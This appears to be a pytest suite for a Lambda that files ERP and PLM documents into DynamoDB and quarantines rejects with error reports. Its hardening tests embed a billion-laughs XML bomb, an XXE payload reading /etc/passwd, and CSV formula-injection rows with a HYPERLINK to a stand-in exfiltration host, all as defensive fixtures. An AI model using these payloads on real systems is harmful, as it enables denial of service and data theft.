"""The S3 handler under moto: Given files dropped in the landing bucket's inboxes, When their
notifications arrive through SQS, Then each document is in its store (once, newest revision),
rejects are quarantined beside a report, and the original is always kept in archive/."""

import csv
import io
import json

import pytest

from lambdas.erp_plm_router import s3_handler
from lambdas.erp_plm_router.settings import EnvVar
from tests.lambdas.conftest import LambdaContext
from tests.lambdas.erp_plm_router.conftest import SAMPLES, create_store

CASES = [
    # (inbox, sample, table, stored keys)
    ("erp/production-order", "production-order.json", EnvVar.ORDERS_TABLE,
     ["ORDER#1000123", "ORDER#1000124"]),
    ("erp/production-order", "production-order.csv", EnvVar.ORDERS_TABLE,
     ["ORDER#2000001", "ORDER#2000002", "ORDER#2000003"]),
    ("erp/production-order", "production-order.xml", EnvVar.ORDERS_TABLE,
     ["ORDER#3000001", "ORDER#3000002"]),
    ("erp/material-master", "material-master.json", EnvVar.PRODUCTS_TABLE, ["MAT#HINGE-01"]),
    ("erp/material-master", "material-master.csv", EnvVar.PRODUCTS_TABLE,
     ["MAT#BOX-L", "MAT#SEAL-7"]),
    ("erp/material-master", "material-master.xml", EnvVar.PRODUCTS_TABLE,
     ["MAT#4711", "MAT#COIL-DC04"]),
    ("erp/bom", "bom.json", EnvVar.PRODUCTS_TABLE, ["BOM#BOM-DOOR-L"]),
    ("erp/bom", "bom.csv", EnvVar.PRODUCTS_TABLE, ["BOM#BOM-DOOR-R", "BOM#BOM-HOOD"]),
    ("plm/bom", "bom.json", EnvVar.PRODUCTS_TABLE, None),  # the ERP document in the PLM inbox
    ("plm/routing", "routing.json", EnvVar.PROCESS_PLANS_TABLE, ["ROUTING#RT-DOOR-L"]),
    ("plm/routing", "routing.csv", EnvVar.PROCESS_PLANS_TABLE, ["ROUTING#RT-DOOR-R"]),
    ("erp/inventory", "inventory.json", EnvVar.INVENTORY_TABLE, ["INV#berlin#HINGE-01"]),
    ("erp/inventory", "inventory.csv", EnvVar.INVENTORY_TABLE,
     ["INV#berlin#COIL-DC04", "INV#berlin#SEAL-7"]),
]  # fmt: skip


def deliver(*records):
    return s3_handler.lambda_handler({"Records": list(records)}, LambdaContext())


def error_report(world, key):
    return json.loads(world.read(f"quarantine/{key}.error.json"))


@pytest.mark.parametrize(("inbox", "sample", "table", "keys"), CASES)
def test_each_format_of_each_document_type_lands_in_its_store(world, inbox, sample, table, keys):
    body = (SAMPLES / sample).read_bytes()

    response = deliver(world.drop(f"inbound/{inbox}/{sample}", body))

    assert response == {"batchItemFailures": []}
    assert world.read(f"archive/{inbox}/{sample}") == body
    if keys is None:  # JSON documents name their source system: ERP's are refused by PLM's inbox
        assert world.items(table) == []
        report = error_report(world, f"{inbox}/{sample}")
        assert report["errors"][0]["field"] == "source_system"
        assert "ERP document in the plm inbox" in report["errors"][0]["reason"]
        return
    assert sorted(item["pk"]["S"] for item in world.items(table)) == keys
    assert world.keys("quarantine/") == []


def test_stored_items_keep_the_documents_fields_and_nesting(world):
    deliver(world.drop("inbound/plm/routing/r.csv", (SAMPLES / "routing.csv").read_bytes()))
    deliver(world.drop("inbound/erp/inventory/i.csv", (SAMPLES / "inventory.csv").read_bytes()))

    routing = world.item(EnvVar.PROCESS_PLANS_TABLE, "ROUTING#RT-DOOR-R")
    operations = routing["operations"]["L"]
    assert [op["M"]["operation_no"]["N"] for op in operations] == ["10", "20"]
    hem = operations[1]["M"]["work_instructions"]["L"][1]["M"]
    assert hem["text"]["S"] == "Hem, then check the seam"
    assert routing["revision"]["N"] == "2" and routing["source_system"]["S"] == "PLM"
    coil = world.item(EnvVar.INVENTORY_TABLE, "INV#berlin#COIL-DC04", "LOC#-")
    assert coil["available_quantity"]["N"] == "35000.0"


def test_the_same_file_twice_changes_nothing(world):
    body = (SAMPLES / "production-order.csv").read_bytes()
    deliver(world.drop("inbound/erp/production-order/day.csv", body))
    first = world.items(EnvVar.ORDERS_TABLE)

    deliver(world.drop("inbound/erp/production-order/day-again.csv", body))

    assert world.items(EnvVar.ORDERS_TABLE) == first  # stored_at unchanged: nothing rewritten
    assert world.keys("quarantine/") == []


ORDER_HEADER = ",".join(
    ("document_id", "revision", "issued_at", "order_id", "material_id", "quantity", "uom", "site")
    + ("planned_start", "planned_end")
)
PLAN = "1763870400000,1763899200000"


def order_csv(*rows):
    lines = [ORDER_HEADER] + [
        f"{order},{revision},1763800000000,{order},DOOR-L,{quantity},PC,berlin,{PLAN}"
        for order, revision, quantity in rows
    ]
    return ("\n".join(lines) + "\n").encode()


def test_a_late_older_revision_never_overwrites_a_newer_one(world):
    deliver(world.drop("inbound/erp/production-order/a.csv", order_csv(("7", 3, 300))))

    deliver(world.drop("inbound/erp/production-order/b.csv", order_csv(("7", 2, 200))))
    # Both revisions in one file, newest first: the second waits for its own batch.
    deliver(world.drop("inbound/erp/production-order/c.csv", order_csv(("8", 5, 5), ("8", 4, 4))))

    assert world.item(EnvVar.ORDERS_TABLE, "ORDER#7")["revision"]["N"] == "3"
    assert world.item(EnvVar.ORDERS_TABLE, "ORDER#7")["quantity"]["N"] == "300.0"
    assert world.item(EnvVar.ORDERS_TABLE, "ORDER#8")["revision"]["N"] == "5"
    assert world.keys("quarantine/") == []


def test_a_newer_revision_supersedes_the_stored_one(world):
    deliver(world.drop("inbound/erp/production-order/a.csv", order_csv(("7", 2, 200))))

    deliver(world.drop("inbound/erp/production-order/b.csv", order_csv(("7", 3, 300))))

    assert world.item(EnvVar.ORDERS_TABLE, "ORDER#7")["quantity"]["N"] == "300.0"


def test_the_same_revision_with_other_content_is_quarantined_as_a_conflict(world):
    deliver(world.drop("inbound/erp/production-order/a.csv", order_csv(("7", 2, 200))))

    deliver(world.drop("inbound/erp/production-order/b.csv", order_csv(("7", 2, 999))))

    assert world.item(EnvVar.ORDERS_TABLE, "ORDER#7")["quantity"]["N"] == "200.0"
    report = error_report(world, "erp/production-order/b.csv")
    assert report["conflicts"] == 1
    assert report["errors"][0]["field"] == "revision"
    assert "stored with other content" in report["errors"][0]["reason"]


def test_a_malformed_row_is_quarantined_with_its_line_field_and_reason(world):
    body = order_csv(("1", 1, 10), ("2", 1, 0), ("3", 1, 30))  # line 3: quantity 0
    body += b"4,1,1763800000000,4,DOOR-L,5\n"  # line 5: too few fields

    response = deliver(world.drop("inbound/erp/production-order/mixed.csv", body))

    assert response == {"batchItemFailures": []}
    stored = sorted(item["pk"]["S"] for item in world.items(EnvVar.ORDERS_TABLE))
    assert stored == ["ORDER#1", "ORDER#3"]
    report = error_report(world, "erp/production-order/mixed.csv")
    assert (report["received"], report["stored"], report["rejected"]) == (4, 2, 2)
    assert report["whole_file"] is False
    first, second = report["errors"]
    assert (first["line"], first["field"], first["document_id"]) == (3, "quantity", "2")
    assert "greater than 0" in first["reason"]
    assert (second["line"], second["field"]) == (5, "(row)")
    assert "6 fields where the header has 10" in second["reason"]
    quarantined = world.read("quarantine/erp/production-order/mixed.csv").decode().splitlines()
    assert quarantined[0].startswith("document_id,revision")
    assert [line.split(",")[0] for line in quarantined[1:]] == ["2", "4"]
    assert world.read("archive/erp/production-order/mixed.csv") == body
    assert world.read("inbound/erp/production-order/mixed.csv") == body


def test_a_bad_bom_item_is_reported_on_its_own_line(world):
    body = (SAMPLES / "bom.csv").read_bytes().replace(b"HINGE-01,2,PC", b"HINGE-01,-2,PC")

    deliver(world.drop("inbound/erp/bom/b.csv", body))

    report = error_report(world, "erp/bom/b.csv")
    [error] = report["errors"]
    assert (error["line"], error["field"], error["document_id"]) == (
        3,
        "items.1.quantity",
        "BOM-DOOR-R",
    )
    assert [item["pk"]["S"] for item in world.items(EnvVar.PRODUCTS_TABLE)] == ["BOM#BOM-HOOD"]
    assert world.read("quarantine/erp/bom/b.csv").decode().count("BOM-DOOR-R,1,") == 3


def test_an_unparseable_file_is_quarantined_whole(world):
    body = b'[{"v": 1, "source_system": "ERP",\n  "document_id": oops}]'

    response = deliver(world.drop("inbound/erp/material-master/broken.json", body))

    assert response == {"batchItemFailures": []}
    assert world.read("quarantine/erp/material-master/broken.json") == body
    report = error_report(world, "erp/material-master/broken.json")
    assert report["whole_file"] is True
    [error] = report["errors"]
    assert error["field"] == "(file)" and error["line"] == 2 and "not JSON" in error["reason"]
    assert world.read("archive/erp/material-master/broken.json") == body


@pytest.mark.parametrize(
    ("key", "reason"),
    [
        ("inbound/plm/production-order/o.json", "plm sends no 'production-order'"),
        ("inbound/erp/production-order/o.xlsx", "unknown file type"),
        ("inbound/erp/bom/b.xml", "no IDoc mapping for bom"),
    ],
)
def test_a_file_in_no_inbox_or_of_no_known_format_is_quarantined_whole(world, key, reason):
    body = (SAMPLES / "production-order.json").read_bytes()

    deliver(world.drop(key, body))

    relative = key.removeprefix("inbound/")
    assert world.read(f"quarantine/{relative}") == body
    assert reason in error_report(world, relative)["errors"][-1]["reason"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<LOIPRO01><IDOC><E1AFKOL><AUFNR>&lol4;</AUFNR></E1AFKOL></IDOC></LOIPRO01>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE MATMAS05 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MATMAS05><IDOC><E1MARAM><MATNR>&xxe;</MATNR></E1MARAM></IDOC></MATMAS05>
"""


@pytest.mark.parametrize(
    ("key", "body"),
    [
        ("inbound/erp/production-order/bomb.xml", BILLION_LAUGHS),
        ("inbound/erp/material-master/xxe.xml", EXTERNAL_ENTITY),
    ],
)
def test_the_hardened_xml_parser_refuses_entity_bombs_and_external_entities(world, key, body):
    response = deliver(world.drop(key, body))

    assert response == {"batchItemFailures": []}
    relative = key.removeprefix("inbound/")
    assert world.read(f"quarantine/{relative}") == body
    [error] = error_report(world, relative)["errors"]
    assert error["field"] == "(file)"
    assert "refused XML: DTDForbidden" in error["reason"]
    assert "entity-expansion or external-entity attack" in error["reason"]
    assert world.items(EnvVar.ORDERS_TABLE) == world.items(EnvVar.PRODUCTS_TABLE) == []


def test_an_idoc_of_the_wrong_type_is_rejected_alone(world):
    body = (SAMPLES / "material-master.xml").read_bytes()

    deliver(world.drop("inbound/erp/production-order/mat.xml", body))

    report = error_report(world, "erp/production-order/mat.xml")
    assert report["rejected"] == 2
    assert report["errors"][0]["field"] == "EDI_DC40/IDOCTYP"
    assert world.read("quarantine/erp/production-order/mat.xml").startswith(b"<?xml")


def test_a_store_failure_is_a_batch_item_failure_and_the_retry_completes(world):
    body = (SAMPLES / "inventory.csv").read_bytes()
    world.dynamodb.delete_table(TableName="inventory")
    failing = world.drop("inbound/erp/inventory/stock.csv", body)
    good = world.drop(
        "inbound/erp/material-master/m.json", (SAMPLES / "material-master.json").read_bytes()
    )

    response = deliver(failing, good)

    assert response == {"batchItemFailures": [{"itemIdentifier": failing["messageId"]}]}
    assert world.keys("quarantine/") == []
    create_store(world.dynamodb, "inventory")
    assert deliver(failing) == {"batchItemFailures": []}
    assert len(world.items(EnvVar.INVENTORY_TABLE)) == 2


def test_objects_outside_the_inboxes_are_ignored(world):
    record = world.drop("quarantine/erp/bom/x.csv", b"anything")

    assert deliver(record) == {"batchItemFailures": []}
    assert world.keys("archive/") == []


def test_formulas_in_rejected_rows_reach_quarantine_as_text(world):
    body = order_csv(("1", 1, 10)) + (
        b'=1+1,1,1763800000000,"=HYPERLINK(""http://evil.example/?d=""&A1)",@SUM(A1),-5,PC,'
        b"berlin,1763870400000,1763899200000\n"
        b"\t=cmd,1,1763800000000,+SUM(A1),-1+1,-5,PC,berlin,1763870400000,1763899200000\n"
    )

    deliver(world.drop("inbound/erp/production-order/f.csv", body))

    rows = list(
        csv.reader(io.StringIO(world.read("quarantine/erp/production-order/f.csv").decode()))
    )
    assert rows[1][:6] == [
        "'=1+1", "1", "1763800000000", "'=HYPERLINK(\"http://evil.example/?d=\"&A1)",
        "'@SUM(A1)", "-5",  # a plain negative number is a number, never a formula
    ]  # fmt: skip
    assert rows[2][:6] == ["'\t=cmd", "1", "1763800000000", "'+SUM(A1)", "'-1+1", "-5"]
    assert world.read("archive/erp/production-order/f.csv") == body  # the original, verbatim
